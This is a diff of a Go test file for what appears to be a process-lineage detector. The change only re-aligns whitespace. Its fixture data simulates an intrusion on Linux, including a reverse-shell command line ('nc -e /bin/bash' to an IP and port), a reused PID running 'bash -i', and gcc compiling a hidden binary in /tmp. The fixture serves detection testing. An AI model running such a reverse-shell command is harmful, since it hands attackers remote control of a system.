@@ -23,10 +23,10 @@ func nix(pid, ppid int64, sec float64, path, cmdline, cwd string) Proc {
 
 type want struct {
 	compiler, parent, class, stage, output, outputSource, origin, ancestry string
-	executions, connections                                            int
-	reasons, evidence                                                  []string
-	notReasons                                                         []string
-	clean                                                              bool // no reason at all
+	executions, connections                                                int
+	reasons, evidence                                                      []string
+	notReasons                                                             []string
+	clean                                                                  bool // no reason at all
 }
 
 func check(t *testing.T, got Lineage, w want) {
@@ -200,8 +200,8 @@ func TestCorrelate(t *testing.T) {
 			name: "linux: gcc helpers make no rows, ld's write is the artifact, pid reuse is resolved",
 			ev: Events{Platform: "linux",
 				Procs: []Proc{
-					nix(100, 1, 0, "/usr/sbin/nginx", "nginx: worker", "/"),          // old holder of pid 100
-					nix(100, 50, 100, "/bin/bash", "bash -i", "/tmp"),                // pid 100 reused by a shell
+					nix(100, 1, 0, "/usr/sbin/nginx", "nginx: worker", "/"),             // old holder of pid 100
+					nix(100, 50, 100, "/bin/bash", "bash -i", "/tmp"),                   // pid 100 reused by a shell
 					nix(50, 1, 90, "/usr/bin/nc", "nc -e /bin/bash 10.0.0.1 4444", "/"), // reverse shell
 					nix(200, 100, 200, "/usr/bin/x86_64-linux-gnu-gcc-12", "gcc -o /tmp/.x /tmp/x.c", "/tmp"),
 					nix(201, 200, 200.1, "/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "cc1 /tmp/x.c", "/tmp"),
